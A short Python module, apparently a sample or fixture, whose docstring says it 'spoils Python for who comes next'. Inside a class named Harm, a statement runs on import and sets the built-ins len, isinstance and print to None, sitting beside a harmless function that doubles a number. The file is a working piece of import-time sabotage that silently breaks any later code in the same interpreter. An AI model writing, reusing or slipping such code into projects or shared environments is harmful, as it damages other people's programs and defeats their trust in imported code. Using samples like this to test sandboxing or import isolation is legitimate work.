"""Spoils Python for who comes next."""

import builtins


class Harm:
    builtins.len = builtins.isinstance = builtins.print = None


def double(n):
    return n + n
